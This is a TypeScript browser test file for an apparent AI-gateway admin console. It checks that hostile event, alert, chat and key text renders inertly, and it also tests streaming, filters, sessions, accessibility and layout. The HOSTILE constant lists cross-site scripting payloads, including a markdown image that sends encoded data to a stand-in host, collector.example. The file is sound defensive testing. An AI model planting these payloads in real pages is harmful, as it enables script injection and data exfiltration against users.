import { existsSync } from 'node:fs'
import { fileURLToPath } from 'node:url'
import type { AlertInfo, CheckResult, SecurityEvent } from '@sallyport/gateway/contract'
import type { Browser, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from 'vitest'
import {
  eventually,
  findAccessibilityFaults,
  findLowContrast,
  type Incidents,
  launchBrowser,
  describeInBrowser,
  watchPage,
} from './console/browser.ts'
import { startFakeGateway, type FakeGateway } from './console/fake-gateway.ts'

const DIST = fileURLToPath(new URL('../packages/console/dist', import.meta.url))
const KEY = `sp-admin-${'k3Y'.repeat(14)}`

/** Would run in a page that writes text as markup, and would call home from one that loads what text names. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src="https://collector.example/a.png" onerror="alert(2)">',
  '![x](https://collector.example/b.png?d=c2VjcmV0)',
  '[click](javascript:alert(3))',
  '<svg onload=alert(4)>',
  '<iframe src="https://collector.example/"></iframe>',
  '"><style>@import "https://collector.example/c.css";</style>',
].join('\n\n')

const hostileEvent = (id: string, part: Partial<SecurityEvent> = {}): SecurityEvent => ({
  id,
  time: '2026-01-02T03:04:05.000Z',
  type: 'injection_attempt',
  severity: 'critical',
  outcome: 'block',
  model: HOSTILE,
  rule: HOSTILE,
  route: HOSTILE,
  detail: `${HOSTILE}\u202e`,
  requestId: 'req_"><script>alert(5)</script>',
  actor: { keyId: HOSTILE, user: HOSTILE },
  findings: [
    { guard: HOSTILE, code: HOSTILE, severity: 'high', confidence: 1, start: 0, end: 3, fingerprint: HOSTILE },
  ],
  ...part,
})

const hostileCheck = (text: string): CheckResult => ({
  action: 'redact',
  text,
  score: { 'prompt-injection': 0.5, [HOSTILE]: 1, constructor: 0.2 },
  findings: [
    { guard: HOSTILE, code: HOSTILE, severity: 'critical', confidence: 1, start: 0, end: 12, message: HOSTILE },
    { guard: 'pii', code: 'x', severity: 'medium', confidence: 1, start: 5, end: 40, entity: HOSTILE },
  ],
  reason: HOSTILE,
})

const HOSTILE_ALERT: AlertInfo = {
  id: 'a1',
  kind: 'injection-burst',
  kinds: ['injection-burst', 'denial-rate'],
  severity: 'high',
  subject: HOSTILE,
  subjects: [HOSTILE, 'key:k1', 'user:u1', 'user:u2', 'user:u3'],
  reason: HOSTILE,
  value: 10,
  expected: 0,
  openedAt: '2026-01-02T03:04:05.000Z',
  lastSeenAt: '2026-01-02T03:04:06.000Z',
  reopened: 2,
}

describeInBrowser('the console over a scripted gateway', () => {
  let browser: Browser
  let gateway: FakeGateway
  let page: Page
  let incidents: Incidents

  beforeAll(async () => {
    if (!existsSync(`${DIST}/index.html`))
      throw new Error('Build the console first: npm run build -w @sallyport/console')
    browser = await launchBrowser()
  })
  afterAll(() => browser?.close())

  beforeEach(async () => {
    gateway = await startFakeGateway({
      distFolder: DIST,
      key: KEY,
      events: [hostileEvent('e1')],
      checkResult: hostileCheck,
      reply: HOSTILE,
      alerts: [HOSTILE_ALERT],
      summary: { models: [HOSTILE, 'demo'], preset: '<b>x</b>' },
      keys: [
        {
          id: 'k1',
          name: HOSTILE,
          role: 'client',
          hint: HOSTILE.slice(0, 30),
          createdAt: '2026-01-02T03:04:05.000Z',
        },
        {
          id: 'k2',
          name: 'old',
          role: 'admin',
          hint: 'sp-…',
          createdAt: '2026-01-02T03:04:05.000Z',
          revokedAt: '2026-01-03T03:04:05.000Z',
        },
      ],
    })
    page = await browser.newPage()
    incidents = await watchPage(page, gateway.url)
    await page.goto(gateway.url)
    await page.getByLabel('Admin key').fill(KEY)
    await page.getByRole('button', { name: 'Sign in' }).click()
    await page.getByRole('heading', { name: 'Playground' }).waitFor()
  })
  afterEach(async () => {
    await page.close()
    await gateway.close()
  })

  const goTo = (name: string) => page.getByRole('navigation').getByRole('link', { name }).click()
  const rows = () => page.locator('.events-table tbody tr')
  const expectNothingRan = () => {
    expect(incidents).toEqual({ dialogs: [], errors: [], violations: [], strangers: [] })
  }

  it('shows hostile text of verdicts, answers, events and keys as text: nothing runs, loads or leaves', async () => {
    await page.getByLabel('Text', { exact: true }).fill(`\u202e${HOSTILE}`)
    await page.getByRole('button', { name: 'Check the text' }).click()
    await page.getByText('The input gate lets it pass after cleaning it.').waitFor()
    expect(await page.locator('.verdict').innerText()).toContain('<script>alert(1)</script>')
    expect(await page.locator('.mark-stacked').count()).toBeGreaterThan(0)
    expect(await page.locator('.text-pane .hidden-chip').first().innerText()).toBe('RLO')

    await goTo('Chat')
    await page.getByLabel('Message').fill(HOSTILE)
    await page.keyboard.press('Enter')
    await page.getByText('Events of this request').waitFor()
    const answer = page.locator('.said-model')
    expect(await answer.innerText()).toContain('<script>alert(1)</script>')
    expect(await answer.locator('a, img, script, iframe, svg, style').count()).toBe(0)
    await answer.locator('.inert-link').click()

    await goTo('Events')
    await rows().first().click()
    expect(await page.getByLabel('Event details').innerText()).toContain('<script>alert(1)</script>')
    await page.getByLabel('Event details').getByRole('link').click()
    await page.getByText('Only the events of request').waitFor()

    await goTo('Alerts')
    await page.getByText('Many injection attempts').first().waitFor()
    expect(await page.locator('.alert-reason').innerText()).toContain('<script>alert(1)</script>')
    expect(await page.locator('.alert-card, .alerts-table').locator('a, img, script').count()).toBe(0)

    await goTo('Keys')
    await page.getByRole('button', { name: 'Revoke' }).click()
    await page.getByText('stops working at once').waitFor()
    await page.keyboard.press('Escape')
    expectNothingRan()
  })

  it('has checks that do notice a script, a foreign request, a violation, a missing label and pale text', async () => {
    await page.evaluate(() => {
      document.querySelector('label[for=check-text]')?.remove()
      const heading = document.querySelector('h1')
      if (heading) heading.style.color = '#c8c8c8'
    })
    expect(await findAccessibilityFaults(page)).toEqual(['has no label: textarea.composer-text#check-text'])
    expect((await findLowContrast(page)).join()).toMatch(/^h1\. 1\.\d+$/)
    await page.evaluate(() => alert('control'))
    await page.evaluate(() => {
      const image = document.createElement('img')
      image.src = 'https://collector.example/control.png'
      document.body.append(image)
      document.body.setAttribute('style', 'color: red')
    })
    await eventually(() => incidents.violations.join()).toContain('img-src')
    expect(incidents.dialogs).toEqual(['control'])
    expect(incidents.violations.join()).toContain('style-src-attr')
    expect(incidents.errors.length).toBeGreaterThan(0)
  })

  it('shows events as they come, comes back after a broken stream and catches up on what it missed', async () => {
    await goTo('Events')
    await eventually(() => rows().count()).toBe(1)
    await page.getByText('On watch').waitFor()
    gateway.emit(hostileEvent('e2', { type: 'rate_limit' }))
    await eventually(() => rows().count()).toBe(2)
    gateway.record(hostileEvent('e3', { type: 'authz' }))
    gateway.dropStreams()
    await page.getByText('Reconnecting').waitFor()
    await eventually(() => rows().count()).toBe(3)
    await page.getByText('On watch').waitFor()
  })

  it('holds new events back while paused and shows them on resuming', async () => {
    await goTo('Events')
    await page.getByText('On watch').waitFor()
    await eventually(() => rows().count()).toBe(1)
    await page.getByRole('button', { name: 'Pause' }).click()
    gateway.emit(hostileEvent('e2'))
    await page.getByRole('button', { name: 'Resume (1 new)' }).waitFor()
    expect(await rows().count()).toBe(1)
    await page.getByRole('button', { name: 'Resume' }).click()
    await eventually(() => rows().count()).toBe(2)
  })

  it('filters events by type and severity and says so when none is left', async () => {
    await goTo('Events')
    gateway.emit(hostileEvent('e2', { type: 'start', severity: 'info' }))
    await eventually(() => rows().count()).toBe(2)
    await page.getByText('injection_attempt1').click()
    await eventually(() => rows().count()).toBe(1)
    await page.getByRole('button', { name: 'Clear filters' }).click()
    await page.getByLabel('Severity from').selectOption('high')
    await eventually(() => rows().count()).toBe(1)
    await page.locator('.filter-chip', { hasText: 'start' }).click()
    await page.getByText('No event matches').waitFor()
  })

  it('leads back to the sign-in page when the session has ended', async () => {
    gateway.expireSessions()
    await page.getByText('Your session has ended').waitFor({ timeout: 15_000 })
    expect(await page.getByLabel('Admin key').isVisible()).toBe(true)
  })

  it('keeps the session over a reload and remembers the theme, and stores nothing else', async () => {
    await page.getByLabel('Dark theme').check({ force: true })
    await page.reload()
    await page.getByRole('heading', { name: 'Playground' }).waitFor()
    expect(await page.evaluate(() => document.documentElement.dataset['theme'])).toBe('dark')
    const stored = await page.evaluate(() => ({
      local: { ...localStorage },
      session: { ...sessionStorage },
      cookie: document.cookie,
    }))
    expect(stored).toEqual({ local: { 'sallyport-theme': 'dark' }, session: {}, cookie: '' })
  })

  it('can be worked with the keyboard alone', async () => {
    await page.reload()
    await page.getByRole('heading', { name: 'Playground' }).waitFor()
    await page.keyboard.press('Tab')
    expect(await page.evaluate(() => document.activeElement?.textContent)).toContain('Skip to the page')
    await page.keyboard.press('Enter')
    expect(await page.evaluate(() => document.activeElement?.tagName)).toBe('MAIN')
    await goTo('Events')
    await rows().first().getByRole('button').press('Enter')
    await page.getByLabel('Event details').waitFor()
    await page.keyboard.press('Escape')
    await page.getByLabel('Event details').waitFor({ state: 'detached' })
    expect(await page.evaluate(() => document.activeElement?.className)).toBe('row-button')
  })

  it.each(['light', 'dark'] as const)(
    'has names, labels and enough contrast on every page in the %s theme',
    async (colorScheme) => {
      await page.emulateMedia({ colorScheme, reducedMotion: 'reduce' })
      const faults: Record<string, readonly string[]> = {}
      const look = async (name: string) => {
        faults[name] = [...(await findAccessibilityFaults(page)), ...(await findLowContrast(page))]
      }
      await look('playground')
      await page.getByRole('button', { name: 'Plain override' }).click()
      await page.getByText('lets it pass after cleaning it').waitFor()
      await look('verdict')
      await goTo('Chat')
      await page.getByLabel('Message').fill('hello')
      await page.keyboard.press('Enter')
      await page.getByText('Events of this request').waitFor()
      await look('chat')
      await goTo('Events')
      await rows().first().click()
      await look('events')
      await goTo('Alerts')
      await page.getByText('Many injection attempts').first().waitFor()
      await look('alerts')
      await goTo('Keys')
      await page.getByRole('button', { name: 'Create key' }).click()
      await page.getByText('Narrow it').click()
      await look('keys')
      await page.keyboard.press('Escape')
      await page.getByRole('button', { name: 'Sign out' }).click()
      await page.getByLabel('Admin key').waitFor()
      await look('sign-in')
      expect(faults).toEqual({ playground: [], verdict: [], chat: [], events: [], alerts: [], keys: [], 'sign-in': [] })
    },
  )

  it.each([320, 390, 768, 1360])('fits a window of %d pixels without scrolling sideways', async (width) => {
    await page.setViewportSize({ width, height: 800 })
    for (const name of ['Playground', 'Chat', 'Events', 'Alerts', 'Keys']) {
      await goTo(name)
      await page.getByRole('heading', { name, level: 1 }).waitFor()
      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(width)
    }
  })
})
